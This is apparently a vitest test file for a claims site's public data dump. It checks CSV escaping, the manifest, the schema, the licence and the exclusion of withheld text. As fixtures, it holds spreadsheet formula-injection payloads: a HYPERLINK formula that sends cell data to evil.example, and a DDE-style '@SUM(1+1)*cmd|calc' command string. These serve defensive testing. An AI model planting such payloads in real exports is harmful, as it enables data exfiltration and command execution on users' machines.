import { readdir, readFile, rm } from 'node:fs/promises'
import { join } from 'node:path'
import { parse } from 'csv-parse/sync'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { z } from 'zod'
import { closeDesk } from '@/lib/db'
import { closeReader } from '@/lib/db-public'
import { dumpedClaim } from '@/lib/dump/claim-schema'
import { unguarded } from '@/lib/dump/csv'
import { dumpPublic } from '@/lib/dump/dump-public'
import { manifestShape } from '@/lib/dump/manifest'
import { confirmWithholding } from '@/lib/review/commands/confirm-withholding'
import { decideClaim } from '@/lib/review/commands/decide-claim'
import { proposeWithholding } from '@/lib/review/commands/propose-withholding'
import { changeSetting } from '@/lib/settings/commands/change-setting'
import { temporaryFolder } from '@/tests/support/cluster'
import { richClaim } from '@/tests/support/rich-claim'
import {
  decidedClaim,
  decision,
  evidenceFrom,
  good,
  newDocument,
  newPeople,
  submittedWith,
  versionOf,
} from '@/tests/support/scene'

const site = { origin: 'https://claims.paper.example', name: 'Whence' }
const HOSTILE = '=HYPERLINK("https://evil.example/?x="&A1,"Click")'
const SECRET = 'Xanthippe Quillfeather'

let people: Awaited<ReturnType<typeof newPeople>>
let parent: string
let folder: string
let hostile: string
let rich: string

beforeAll(async () => {
  people = await newPeople()
  parent = await temporaryFolder('dump-files')
  const document = await newDocument(people.editor, '@SUM(1+1)*cmd|calc', undefined, '+Wire')
  const { ref } = await submittedWith(people.editor, [evidenceFrom(document, { note: '-2+3\r\n=1' })], {
    statement: HOSTILE,
    topics: [{ kind: 'new', name: '@topic' }],
    figures: [{ label: '=1', amount: '-5', low: null, high: null, unit: '+kg', asOf: null }],
  })
  good(await decideClaim(people.reviewer, await decision(ref, { reason: "'tis =so" })))
  hostile = ref
  rich = (await richClaim(people)).ref

  const withheld = await submittedWith(people.editor, [evidenceFrom(await newDocument(people.editor))], {
    statement: `${SECRET} sank the ferry.`,
  })
  good(await decideClaim(people.reviewer, await decision(withheld.ref, { reason: `It was ${SECRET}.` })))
  const at = async () => ({ ref: withheld.ref, version: await versionOf(withheld.ref) })
  const words = {
    act: 'WITHHOLD',
    ground: 'SAFETY',
    legalReference: null,
    reason: 'A person is at risk.',
  } as const
  const proposal = good(await proposeWithholding(people.reviewer, { ...(await at()), ...words }))
  good(await confirmWithholding(people.reviewer2, { ...(await at()), ...proposal }))

  folder = join(parent, 'one')
  good(await dumpPublic(folder, site))
}, 120_000)

afterAll(async () => {
  await Promise.all([closeDesk(), closeReader()])
  await rm(parent, { recursive: true, force: true })
})

const text = (name: string, of = folder) => readFile(join(of, name), 'utf8')
const manifestOf = async (of = folder) => manifestShape.parse(JSON.parse(await text('manifest.json', of)))

async function rowsOf(name: string): Promise<Array<Record<string, string>>> {
  return parse(await text(name), { bom: true, columns: true, record_delimiter: '\r\n' })
}
const rowOf = async (name: string, of: (row: Record<string, string>) => boolean) =>
  (await rowsOf(name)).find(of) ?? {}

describe('the tables', () => {
  test('hold no cell that a spreadsheet would reckon, and each text to the letter behind its guard', async () => {
    const tables = (await readdir(folder)).filter((name) => name.endsWith('.csv'))
    expect(tables).toHaveLength(10)
    for (const name of tables)
      for (const row of await rowsOf(name))
        for (const [column, cell] of Object.entries(row))
          expect(cell, `${name} ${column}`).not.toMatch(/^\s*[=+\-@\t\r\n]/u)
    const claim = await rowOf('claims.csv', ({ ref }) => ref === hostile)
    expect(claim.statement).toBe(`'${HOSTILE}`)
    expect(unguarded(claim.statement ?? '')).toBe(HOSTILE)
    expect(claim.reason).toBe("''tis =so")
    const piece = await rowOf('evidence.csv', (row) => row.claim_ref === hostile)
    expect(piece.source_title).toMatch(/^'@SUM/)
    expect(unguarded(piece.note ?? '')).toBe('-2+3\r\n=1')
    expect(piece.publisher).toBe("'+Wire")
    expect(await rowOf('figures.csv', (row) => row.claim_ref === hostile)).toMatchObject({
      label: "'=1",
      amount: "'-5",
      unit: "'+kg",
    })
    expect((await rowOf('agents.csv', ({ name }) => name === "'+Wire")).kind).toBe('ORGANISATION')
  })

  test('say what the pages say, a row for each thing', async () => {
    const line = (await text('claims.jsonl')).split('\n').find((one) => one.includes(`"ref":"${rich}"`))
    const page = dumpedClaim.parse(JSON.parse(line ?? ''))
    expect(await rowOf('claims.csv', ({ ref }) => ref === rich)).toMatchObject({
      url: `${site.origin}${page.url}`,
      status: page.status,
      origins: String(page.origins),
      decided_at: page.decidedAt,
      revision_hash: page.revisionHash,
      rules_no_longer_met: 'false',
    })
    const pieces = (await rowsOf('evidence.csv')).filter((row) => row.claim_ref === rich)
    expect(pieces.map((row) => row.evidence_key)).toEqual(page.evidence.map(({ key }) => key))
    expect(pieces.map((row) => unguarded(row.quotation ?? ''))).toEqual(
      page.evidence.map(({ quotation }) => quotation?.exact ?? ''),
    )
    const levels = (await rowsOf('attributions.csv')).filter((row) => row.claim_ref === rich)
    expect(levels.map((row) => row.agent)).toEqual(page.attributions.map(({ agent }) => agent.name))
    expect(await rowOf('decisions.csv', (row) => row.claim_ref === rich)).toMatchObject({
      is_standing: 'true',
      reviewer: page.decision.reviewer,
    })
    const sources = (await rowsOf('sources.csv')).map(({ id }) => id)
    for (const { source } of page.evidence) expect(sources).toContain(source.id)
  })
})

describe('the other files', () => {
  test('describe themselves: the schema of the lines, and ClaimReview as a feed', async () => {
    const lines = (await text('claims.jsonl')).trimEnd().split('\n')
    expect(lines).toHaveLength(2)
    const byFile = z.fromJSONSchema(JSON.parse(await text('schema.json')))
    for (const line of lines) {
      expect(dumpedClaim.safeParse(JSON.parse(line)).error).toBeUndefined()
      expect(byFile.safeParse(JSON.parse(line)).error).toBeUndefined()
      expect(byFile.safeParse({ ...JSON.parse(line), unknown: 1 }).success).toBe(false)
    }
    const feed = JSON.parse(await text('claimreview.json'))
    expect(feed).toMatchObject({ '@type': 'DataFeed', dataFeedElement: [] })
    const { ref } = await decidedClaim(people.editor, people.reviewer, {
      status: 'UNVERIFIABLE',
      reason: 'Nobody was there.',
    })
    const other = join(parent, 'reviewed')
    good(await dumpPublic(other, site))
    const { dataFeedElement, dateModified } = JSON.parse(await text('claimreview.json', other))
    expect(dataFeedElement).toHaveLength(1)
    expect(dataFeedElement[0].item[0]).toMatchObject({
      '@type': 'ClaimReview',
      reviewBody: 'Nobody was there.',
    })
    expect(dateModified).toBe(dataFeedElement[0].dateModified)
    expect((await manifestOf(other)).claims).toBe(3)
    expect(ref).toMatch(/^C-/)
  })

  test('are all in the manifest, with what is in them counted', async () => {
    const { files, claims, licence, origin, beat, missing } = await manifestOf()
    const flat = (await readdir(folder)).filter((name) => name !== 'files')
    const names = files.map(({ name }) => name).filter((name) => !name.startsWith('files/'))
    expect([...names, 'SHA256SUMS', 'manifest.json'].sort()).toEqual(flat.sort())
    expect({ claims, licence, origin, missing }).toEqual({
      claims: 2,
      licence: 'NONE',
      origin: site.origin,
      missing: [],
    })
    expect(Number(beat)).toBeGreaterThan(0)
    for (const { name, bytes, rows } of files) {
      const content = await readFile(join(folder, name))
      expect(content.byteLength, name).toBe(bytes)
      if (name.endsWith('.jsonl')) expect(content.toString().split('\n').length - 1, name).toBe(rows)
      if (name.endsWith('.csv')) expect(await rowsOf(name), name).toHaveLength(rows ?? -1)
    }
  })

  test('say under what licence they may be used, and what it is not of', async () => {
    expect(await text('LICENCE.md')).toContain('gives no licence')
    good(await changeSetting(people.admin, { key: 'licence', was: 'NONE', value: 'CC-BY-4.0' }))
    const other = join(parent, 'licensed')
    good(await dumpPublic(other, site))
    for (const name of ['LICENCE.md', 'README.md']) {
      const told = await text(name, other)
      expect(told).toContain('https://creativecommons.org/licenses/by/4.0/')
      expect(told).toContain('belong to their authors')
    }
    expect((await manifestOf(other)).licence).toBe('CC-BY-4.0')
  })

  test('say none of the words that are withheld', async () => {
    for (const name of await readdir(folder))
      if (name !== 'files') expect(await text(name), name).not.toContain(SECRET)
  })
})

test('of the same public state two dumps are the same to the byte, but for where they say when they were taken', async () => {
  const [one, other] = [join(parent, 'first'), join(parent, 'second')]
  good(await dumpPublic(one, site))
  good(await dumpPublic(other, site))
  const differing: string[] = []
  for (const name of await readdir(one))
    if (name !== 'files' && (await text(name, one)) !== (await text(name, other))) differing.push(name)
  expect(differing.sort()).toEqual(['README.md', 'SHA256SUMS', 'manifest.json'])
})
